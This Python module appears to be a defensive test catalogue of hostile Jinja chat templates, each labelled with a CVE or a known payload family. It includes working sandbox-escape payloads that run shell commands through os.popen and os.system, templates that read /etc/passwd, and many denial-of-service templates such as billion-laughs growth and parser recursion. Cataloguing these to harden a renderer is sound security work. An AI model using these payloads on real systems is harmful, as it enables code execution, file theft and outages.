"""Chat templates that attack their host: what is known of such, as a table.

``ESCAPES`` try to reach Python or the machine, ``EXHAUSTIONS`` to use it up. Each has a name and
where the idea is known from. ``PROOF`` stands for a path: an attack that works leaves a file there.
"""

from __future__ import annotations

from typing import Final, NamedTuple

PROOF: Final = "PROOF_OF_EXECUTION"


class Attack(NamedTuple):
    """A hostile template."""

    name: str
    known_from: str
    template: str


_SHELL: Final = "touch PROOF_OF_EXECUTION"
_LLAMA_DRAMA: Final = "CVE-2024-34359, llama-cpp-python"
_FORMAT: Final = "CVE-2016-10745, Jinja"
_FORMAT_MAP: Final = "CVE-2019-10906, Jinja"
_INDIRECT: Final = "CVE-2024-56326, Jinja"
_ATTR: Final = "CVE-2025-27516, Jinja"
_SSTI: Final = "server-side template injection, collected payloads"
_DOS: Final = "denial of service by template, collected payloads"
_RENDERING_DOS: Final = "CVE-2025-61620, vLLM"


ESCAPES: Final = (
    Attack(
        "subclasses-to-popen",
        _LLAMA_DRAMA,
        "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}"
        f"{{{{ x()._module.__builtins__['__import__']('os').popen('{_SHELL}').read() }}}}"
        "{% endif %}{% endfor %}",
    ),
    Attack("mro-of-text", _SSTI, "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    Attack("mro-method", _SSTI, "{{ ''.__class__.mro()[1].__subclasses__() }}"),
    Attack("base-of-list", _SSTI, "{{ [].__class__.__base__.__subclasses__() }}"),
    Attack("base-of-dict", _SSTI, "{{ {}.__class__.__bases__[0] }}"),
    Attack("base-of-number", _SSTI, "{{ (1).__class__.__base__ }}"),
    Attack("class-of-messages", _SSTI, "{{ messages.__class__.__base__.__subclasses__() }}"),
    Attack("class-by-item", _SSTI, "{{ ''['__class__'] }}"),
    Attack("class-by-item-of-message", _SSTI, "{{ messages[0]['__class__'] }}"),
    Attack("class-by-joined-name", _SSTI, "{{ messages[['__cla', 'ss__'] | join] }}"),
    Attack("class-by-added-name", _SSTI, "{{ messages['__cla' + 'ss__'] }}"),
    Attack("class-by-reversed-name", _SSTI, "{{ ''['__ssalc__' | reverse] }}"),
    Attack("class-by-replaced-name", _SSTI, "{{ ''['xxclassxx' | replace('x', '_')] }}"),
    Attack("class-by-escaped-name", _SSTI, "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}"),
    Attack("class-by-formatted-name", _SSTI, "{{ ''['%c%cclass%c%c' % (95, 95, 95, 95)] }}"),
    Attack("attr-filter", _SSTI, "{{ ''|attr('__class__')|attr('__mro__') }}"),
    Attack(
        "attr-filter-chain",
        _SSTI,
        "{{ messages|attr('__init__')|attr('__globals__')|attr('__getitem__')('os') }}",
    ),
    Attack("attr-to-format", _ATTR, "{{ ('{0.__class__.__init__}'|attr('format'))(messages) }}"),
    Attack("attr-by-map", _ATTR, "{{ [''] | map(attribute='__class__') | list }}"),
    Attack("attr-by-map-filter", _ATTR, "{{ [''] | map('attr', '__class__') | list }}"),
    Attack(
        "attr-by-nested-map", _SSTI, "{{ messages | map(attribute='__class__.__base__') | list }}"
    ),
    Attack("attr-by-sort", _SSTI, "{{ ['b', 'a'] | sort(attribute='__class__') }}"),
    Attack("attr-by-groupby", _SSTI, "{{ messages | groupby('__class__.__base__') }}"),
    Attack("attr-by-unique", _SSTI, "{{ [''] | unique(attribute='__class__.__mro__') | list }}"),
    Attack("attr-by-sum", _SSTI, "{{ [''] | sum(attribute='__class__') }}"),
    Attack("attr-by-min", _SSTI, "{{ [''] | min(attribute='__class__') }}"),
    Attack("attr-by-join", _SSTI, "{{ [''] | join(',', attribute='__class__') }}"),
    Attack("attr-by-selectattr", _SSTI, "{{ [''] | selectattr('__class__') | list }}"),
    Attack(
        "attr-by-dictsort", _SSTI, "{{ messages[0] | items | map(attribute='__doc__') | list }}"
    ),
    Attack("format-attribute", _FORMAT, "{{ '{0.__class__.__mro__}'.format('') }}"),
    Attack("format-item", _FORMAT, "{{ '{0[__class__]}'.format('') }}"),
    Attack("format-named", _FORMAT, "{{ '{x.__class__}'.format(x='') }}"),
    Attack("format-globals", _FORMAT, "{{ '{0.__init__.__globals__}'.format(namespace) }}"),
    Attack("format-nested-spec", _FORMAT, "{{ '{0:{1.__class__}}'.format('', '') }}"),
    Attack("format-map", _FORMAT_MAP, "{{ '{a.__class__}'.format_map({'a': ''}) }}"),
    Attack("format-by-variable", _INDIRECT, "{% set f = '{0.__class__}'.format %}{{ f('') }}"),
    Attack(
        "format-by-call-block",
        _INDIRECT,
        "{% macro m(f) %}{{ f('') }}{% endmacro %}{{ m('{0.__class__}'.format) }}",
    ),
    Attack(
        "format-by-map",
        _INDIRECT,
        "{{ ['{0.__class__}'] | map('format', '') | list }}{{ '{0.__class__}'.format_map }}",
    ),
    Attack("cycler", _SSTI, "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    Attack("joiner", _SSTI, "{{ joiner.__init__.__globals__.os.popen('id').read() }}"),
    Attack("lipsum", _SSTI, f"{{{{ lipsum.__globals__['os'].system('{_SHELL}') }}}}"),
    Attack("lipsum-call", _SSTI, "{{ lipsum(n=9999999) }}"),
    Attack("namespace", _SSTI, "{{ namespace.__init__.__globals__.os.system('id') }}"),
    Attack("namespace-made", _SSTI, "{{ namespace(a=1).__init__.__globals__ }}"),
    Attack("namespace-set", _SSTI, "{% set n = namespace() %}{% set n.__class__ = '' %}"),
    Attack("dict-function", _SSTI, "{{ dict.__base__.__subclasses__() }}"),
    Attack("dict-from-keys", _SSTI, "{{ dict.fromkeys(range(9)) }}"),
    Attack("range-class", _SSTI, "{{ range.__class__.__base__ }}"),
    Attack("undefined-globals", _SSTI, "{{ nothing.__init__.__globals__.__builtins__ }}"),
    Attack("undefined-class", _SSTI, "{{ nothing.__class__.__init__.__globals__ }}"),
    Attack("our-function", "this library", "{{ raise_exception.__globals__['sys'] }}"),
    Attack("our-function-item", "this library", "{{ raise_exception['__globals__'] }}"),
    Attack("our-clock", "this library", "{{ strftime_now.__wrapped__.__globals__ }}"),
    Attack("our-budget", "this library", "{{ self._TemplateReference__context.parent }}"),
    Attack("macro-function", _SSTI, "{% macro m() %}{% endmacro %}{{ m._func.__globals__ }}"),
    Attack("macro-environment", _SSTI, "{% macro m() %}{% endmacro %}{{ m._environment.loader }}"),
    Attack(
        "caller",
        _SSTI,
        "{% macro m() %}{{ caller.__globals__.os }}{% endmacro %}{% call m() %}{% endcall %}",
    ),
    Attack("loop", _SSTI, "{% for x in [1] %}{{ loop.__init__.__globals__.os }}{% endfor %}"),
    Attack(
        "loop-iterable", _SSTI, "{% for x in [1] %}{{ loop._iterable.__class__.x }}{% endfor %}"
    ),
    Attack("loop-changed", _SSTI, "{% for x in [1] %}{{ loop.changed.__func__ }}{% endfor %}"),
    Attack("block", _SSTI, "{% block b %}{% endblock %}{{ self.b.__init__.__globals__ }}"),
    Attack("self", _SSTI, "{{ self.__init__.__globals__.os }}"),
    Attack("self-context", _SSTI, "{{ self._TemplateReference__context.eval_ctx.environment }}"),
    Attack("generator-frame", "CPython internals", "{{ (messages|map('upper')).gi_frame.f_back }}"),
    Attack("function-code", "CPython internals", "{{ raise_exception.func_code.co_code }}"),
    Attack("exception-traceback", "CPython internals", "{{ messages.x.__traceback__.tb_frame }}"),
    Attack("encode", _SSTI, "{{ 'x'.encode('rot13').decode() }}"),
    Attack("append", "immutable sandbox", "{{ messages.append(1) }}"),
    Attack("update", "immutable sandbox", "{{ messages[0].update({'role': 'system'}) }}"),
    Attack("pop", "immutable sandbox", "{{ messages[0].pop('role') }}"),
    Attack("clear", "immutable sandbox", "{{ messages.clear() }}"),
    Attack("setdefault", "immutable sandbox", "{{ messages[0].setdefault('x', 1) }}"),
    Attack("do-statement", "immutable sandbox", "{% do messages.append(1) %}"),
    Attack("include-file", "template loaders", "{% include '/etc/passwd' %}"),
    Attack("include-list", "template loaders", "{% include ['/etc/passwd', '/etc/hosts'] %}"),
    Attack("import", "template loaders", "{% import 'os' as os %}{{ os.system('id') }}"),
    Attack("from-import", "template loaders", "{% from 'os' import system %}"),
    Attack("extends", "template loaders", "{% extends '/etc/passwd' %}"),
    Attack("extends-name", "CVE-2024-56201, Jinja", "{% extends '{{ 7*7 }}.py' %}"),
    Attack(
        "python-block", "other engines", "{% raw %}{% endraw %}<% import os %>{{ ''.__doc__.x }}"
    ),
    Attack("debug-statement", "Jinja extensions", "{% debug %}"),
    Attack("translation", "Jinja extensions", "{% trans %}{{ x }}{% endtrans %}"),
    Attack("autoescape", "Jinja extensions", "{% autoescape x.__class__.y %}{% endautoescape %}"),
    Attack("xmlattr", "CVE-2024-22195, Jinja", "{{ {'a b': 1} | xmlattr }}"),
    Attack("pprint", "filters left out", "{{ messages | pprint }}"),
    Attack("random", "filters left out", "{{ messages | random }}"),
    Attack("urlize", "filters left out", "{{ 'http://a' | urlize }}"),
    Attack("filesizeformat", "filters left out", "{{ 1 | filesizeformat }}"),
    Attack("test-callable-call", _SSTI, "{{ (namespace if namespace is callable).__init__.x }}"),
    Attack("printed-function", "leaks addresses", "{{ range }}"),
    Attack("printed-method", "leaks addresses", "{{ messages[0].items }}"),
    Attack("printed-namespace", "leaks addresses", "{{ namespace }}"),
    Attack("printed-macro", "leaks addresses", "{% macro m() %}{% endmacro %}{{ m }}"),
    Attack("concatenated-method", "leaks addresses", "{{ '' ~ messages[0].get }}"),
    Attack("json-of-method", "leaks addresses", "{{ messages[0].get | tojson }}"),
)

_NESTED: Final = "{% for i in range(9999) %}{% for j in range(9999) %}BODY{% endfor %}{% endfor %}"
_GROWING: Final = (
    "{% set n = namespace(x=START) %}{% for i in range(60) %}{% set n.x = STEP %}{% endfor %}"
    "{{ n.x }}"
)


def _growing(start: str, step: str) -> str:
    return _GROWING.replace("START", start).replace("STEP", step)


EXHAUSTIONS: Final = (
    Attack("nested-loops", _RENDERING_DOS, _NESTED.replace("BODY", "")),
    Attack("printing-loops", _RENDERING_DOS, _NESTED.replace("BODY", "x" * 999)),
    Attack("range-bomb", _DOS, "{% for i in range(10**12) %}{% endfor %}"),
    Attack("range-list", _DOS, "{{ range(10**9) | list }}"),
    Attack("range-sum", _DOS, "{% for i in range(9999) %}{{ range(9999) | sum }}{% endfor %}"),
    Attack(
        "range-sort", _DOS, "{% for i in range(9999) %}{{ range(9999)|sort|first }}{% endfor %}"
    ),
    Attack("range-negative-step", _DOS, "{{ range(0, -10**9, -1) | length }}"),
    Attack("repeated-text", _DOS, "{{ 'a' * 10**10 }}"),
    Attack("repeated-text-reversed", _DOS, "{{ 10**10 * 'a' }}"),
    Attack("repeated-list", _DOS, "{{ [1] * 10**9 }}"),
    Attack("repeated-tuple", _DOS, "{{ (1,) * 10**9 }}"),
    Attack(
        "repeated-in-loop", _DOS, "{% for i in range(9999) %}{% set x = 'y' * 99999 %}{% endfor %}"
    ),
    Attack("doubling-text", "billion laughs", _growing("'aa'", "n.x + n.x")),
    Attack("doubling-concatenation", "billion laughs", _growing("'aa'", "n.x ~ n.x")),
    Attack("doubling-join", "billion laughs", _growing("'aa'", "[n.x, n.x] | join")),
    Attack("doubling-replace", "billion laughs", _growing("'aa'", "n.x.replace('a', 'aa')")),
    Attack("doubling-list", "billion laughs", _growing("[1]", "n.x + n.x")),
    Attack("nesting-list", "billion laughs", _growing("[1]", "[n.x, n.x]")),
    Attack("nesting-dict", "billion laughs", _growing("[1]", "{'a': n.x, 'b': n.x}")),
    Attack("squaring-number", _DOS, _growing("3", "n.x * n.x")),
    Attack("power-tower", _DOS, "{{ 10 ** 10 ** 10 ** 10 }}"),
    Attack("power", _DOS, "{{ 9 ** 999999 }}"),
    Attack("negative-power", _DOS, "{{ (-9) ** 999999 }}"),
    Attack("recursive-macro", _DOS, "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}"),
    Attack(
        "doubly-recursive-macro",
        _DOS,
        "{% macro f(n) %}{% if n %}{{ f(n-1) }}{{ f(n-1) }}{% endif %}{% endmacro %}{{ f(40) }}",
    ),
    Attack(
        "mutually-recursive-macros",
        _DOS,
        "{% macro a(g) %}{{ g(a) }}{% endmacro %}{% macro b(g) %}{{ g(b) }}{% endmacro %}"
        "{{ a(b) }}",
    ),
    Attack("recursive-loop", _DOS, "{% for a in [1] recursive %}{{ loop([1]) }}{% endfor %}"),
    Attack("recursive-block", _DOS, "{% block b %}{{ self.b() }}{% endblock %}"),
    Attack("wide-printf", _DOS, "{{ '%999999999d' % 1 }}"),
    Attack("wide-printf-star", _DOS, "{{ '%*d' % (999999999, 1) }}"),
    Attack("wide-printf-filter", _DOS, "{{ '%999999999d' | format(1) }}"),
    Attack("wide-printf-precision", _DOS, "{{ '%.999999999f' % 1 }}"),
    Attack("wide-format", _DOS, "{{ '{:999999999}'.format(1) }}"),
    Attack("wide-format-nested", _DOS, "{{ '{:{}}'.format(1, 999999999) }}"),
    Attack("wide-center", _DOS, "{{ 'a' | center(10**9) }}"),
    Attack("wide-center-method", _DOS, "{{ 'a'.center(10**9) }}"),
    Attack("wide-ljust", _DOS, "{{ 'a'.ljust(10**9) }}"),
    Attack("wide-zfill", _DOS, "{{ 'a'.zfill(10**9) }}"),
    Attack("wide-tabs", _DOS, "{{ '\t'.expandtabs(10**9) }}"),
    Attack("wide-indent", _DOS, "{{ 'a\n' | indent(10**9) }}"),
    Attack("wide-json", _DOS, "{{ messages | tojson(indent=10**9) }}"),
    Attack("wide-round", _DOS, "{{ 1.5 | round(10**9) }}"),
    Attack("many-batches", _DOS, "{{ [1] | batch(10**9, 0) | list }}"),
    Attack("many-slices", _DOS, "{{ [1] | slice(10**9) | list }}"),
    Attack("long-word-wrap", _DOS, "{{ ('a' * 99999) | wordwrap(1) }}"),
    Attack(
        "long-loop-of-text",
        _DOS,
        "{% for c in 'a' * 7999999 %}{% for d in 'a' * 99 %}x{% endfor %}{% endfor %}",
    ),
    Attack("wide-printf-named", _DOS, "{{ '%(a)999999999d' % {'a': 1} }}"),
    Attack(
        "maps-in-loop",
        _DOS,
        "{% for i in range(9999) %}{{ range(9999)|map('string')|list|length }}{% endfor %}",
    ),
    Attack(
        "join-by-long-text",
        _DOS,
        "{% set a = 'a' * 99999 %}{{ a.join(range(9999)|map('string')) }}",
    ),
    Attack(
        "join-filter-by-long-text", _DOS, "{% set a = 'a' * 99999 %}{{ range(9999) | join(a) }}"
    ),
    Attack("replace-nothing-by-long-text", _DOS, "{% set a = 'a' * 99999 %}{{ a.replace('', a) }}"),
    Attack(
        "replace-filter-by-long-text", _DOS, "{% set a = 'a' * 99999 %}{{ a | replace('a', a) }}"
    ),
    Attack(
        "indent-of-many-lines", _DOS, "{% set a = '\\n' * 9999 %}{{ a | indent(9999, blank=true) }}"
    ),
    Attack(
        "printf-of-many-fields", _DOS, "{% set a = 'a' * 99999 %}{{ ('%(x)s' * 9999) % {'x': a} }}"
    ),
    Attack(
        "format-of-many-fields", _DOS, "{% set a = 'a' * 99999 %}{{ ('{0}' * 9999).format(a) }}"
    ),
    Attack(
        "printing-loops-in-set",
        _DOS,
        "{% set x %}" + _NESTED.replace("BODY", "y" * 999) + "{% endset %}",
    ),
    Attack(
        "doubling-block",
        "billion laughs",
        _GROWING.replace(
            "{% set n.x = STEP %}", "{% set n.x %}{{ n.x }}{{ n.x }}{% endset %}"
        ).replace("START", "'aa'"),
    ),
    Attack("nesting-tuple", "billion laughs", _growing("[1]", "(n.x, n.x)")),
    Attack("nesting-dict-call", "billion laughs", _growing("[1]", "dict(a=n.x, b=n.x)")),
    Attack(
        "nesting-without-end",
        "billion laughs",
        _growing("[1]", "[[n.x]]").replace("range(60)", "range(600)"),
    ),
    Attack(
        "deep-parentheses", "parser recursion", "{{ " + "(" * 30_000 + "1" + ")" * 30_000 + " }}"
    ),
    Attack("deep-unary", "parser recursion", "{{ " + "-" * 60_000 + "1 }}"),
    Attack("deep-lists", "parser recursion", "{{ " + "[" * 20_000 + "]" * 20_000 + " }}"),
    Attack("deep-ifs", "parser recursion", "{% if 1 %}" * 2_000 + "{% endif %}" * 2_000),
    Attack("deep-filters", "parser recursion", "{{ 1" + "|abs" * 20_000 + " }}"),
    Attack("deep-attributes", "parser recursion", "{{ a" + ".a" * 40_000 + " }}"),
    Attack("long-source", "size of the file", "x" * 100_001),
)
